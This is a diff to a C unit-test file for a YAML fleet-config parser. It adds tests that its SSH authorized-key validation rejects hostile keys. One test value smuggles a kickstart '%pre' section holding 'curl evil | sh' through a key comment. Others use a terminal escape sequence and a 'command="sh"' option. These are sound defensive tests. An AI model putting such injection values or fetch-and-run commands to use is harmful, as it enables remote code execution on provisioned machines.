@@ -4,6 +4,14 @@
 
 #define SHA256 "aBcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789"
 
+static void unlink_in_dir(const char *name)
+{
+	char path[128];
+
+	snprintf(path, sizeof path, "%s/%s", ft_dir, name);
+	unlink(path);
+}
+
 static void test_minimal_and_defaults(void **state)
 {
 	struct fleet *f;
@@ -45,7 +53,7 @@ static void test_every_field_stored(void **state)
 		"    boot: {kernel: ./vmlinuz, initrd: initrd.img, cmdline: \"root=/dev/vda\"}\n"
 		"networks:\n  labnet: {mode: isolated, cidr: 10.42.8.0/22, dhcp: yes}\n"
 		"  lan: {mode: bridge, bridge: br0}\n"
-		"ssh:\n  user: admin\n  authorized_keys: [\"ssh-ed25519 AAAAC3Nza lit@host\", ./key.pub]\n"
+		"ssh:\n  user: admin\n  authorized_keys: [\"" FT_KEY2 " lit@host\", ./key.pub]\n"
 		"vms:\n  box:\n    image: deb\n    cpus: 4\n    memory: 1536MiB\n    disk: 1TiB\n"
 		"    clone: full\n    networks: [lan, labnet]\n    user_data: user.tmpl\n"
 		"    cloud_config: {packages: [git]}\n    vars: {role: db}\n");
@@ -68,8 +76,8 @@ static void test_every_field_stored(void **state)
 	assert_string_equal(f->networks[1].bridge, "br0");
 	assert_string_equal(f->ssh.user, "admin");
 	assert_int_equal(f->ssh.n_authorized_keys, 2);
-	assert_string_equal(f->ssh.authorized_keys[0], "ssh-ed25519 AAAAC3Nza lit@host");
-	assert_string_equal(f->ssh.authorized_keys[1], "ssh-ed25519 AAAAC3NzaFILE one@host");
+	assert_string_equal(f->ssh.authorized_keys[0], FT_KEY2 " lit@host");
+	assert_string_equal(f->ssh.authorized_keys[1], FT_KEY1 " one@host");
 	s = f->vms[0].spec;
 	assert_int_equal(s->cpus, 4);
 	assert_true(s->memory == 1536ULL << 20);
@@ -279,6 +287,46 @@ static void test_ssh_errors(void **state)
 	ft_expect_error(FT_HEAD "ssh:\n  user: Admin\n", "ssh: user \"Admin\" is not a valid login name");
 }
 
+/* Every authorized key is one well-formed OpenSSH public key line: a
+ * quote and newlines in one wrote a %pre section into ks.cfg. */
+static void test_hostile_keys(void **state)
+{
+	(void)state;
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys:\n    - \"" FT_KEY1
+			" x\\\"\\n%pre\\ncurl evil | sh\\n%end\\n\"\n",
+			"t.yaml:11:7: ssh: authorized key 1: its comment holds a '\"' (kickstart "
+			"could not quote it; change the comment)");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"" FT_KEY1 " a\\nb\"]\n",
+			"t.yaml:10:21: ssh: authorized key 1: its comment holds a control "
+			"character or invalid UTF-8");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"" FT_KEY1 " back\\\\slash\"]\n",
+			"ssh: authorized key 1: its comment holds a '\\'");
+	/* the blob must decode and name the type it is written with */
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-ed25519 AAAAC3NzaFILE x\"]\n",
+			"ssh: authorized key 1: its key data is not base64");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-rsa " FT_KEY1_BLOB "\"]\n",
+			"ssh: authorized key 1: its key data is not a ssh-rsa key");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-foo AAAAC3NzaC1lZDI1NTE5\"]\n",
+			"ssh: authorized key 1: not an OpenSSH public key line: the key type "
+			"is not one herd knows");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5\"]\n",
+			"ssh: authorized key 1: its key data holds no key");
+	/* files: each line that is not blank or # is a key; nothing quoted */
+	ft_write("priv.pub", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [priv.pub]\n",
+			"t.yaml:10:21: ssh: authorized_keys priv.pub: line 1: not an OpenSSH "
+			"public key line: the key type is not one herd knows (ssh-ed25519, "
+			"ssh-rsa, ecdsa-sha2-nistp256, ...; no options before it) (a private "
+			"key? give the .pub file)");
+	ft_write("priv.pub", "# keys\n\n" FT_KEY1 " ok\r\n" FT_KEY1 " \x1b[2Jbad\n");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [priv.pub]\n",
+			"ssh: authorized_keys priv.pub: line 4: its comment holds a control");
+	ft_write("priv.pub", "command=\"sh\" " FT_KEY1 "\n");
+	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [priv.pub]\n",
+			"ssh: authorized_keys priv.pub: line 1: not an OpenSSH public key line");
+	unlink_in_dir("priv.pub");
+}
+
 static void test_many_errors_sorted_and_capped(void **state)
 {
 	char yaml[4096];
@@ -312,6 +360,7 @@ int main(void)
 		cmocka_unit_test(test_reference_errors),
 		cmocka_unit_test(test_name_errors),
 		cmocka_unit_test(test_ssh_errors),
+		cmocka_unit_test(test_hostile_keys),
 		cmocka_unit_test(test_many_errors_sorted_and_capped),
 	};
 
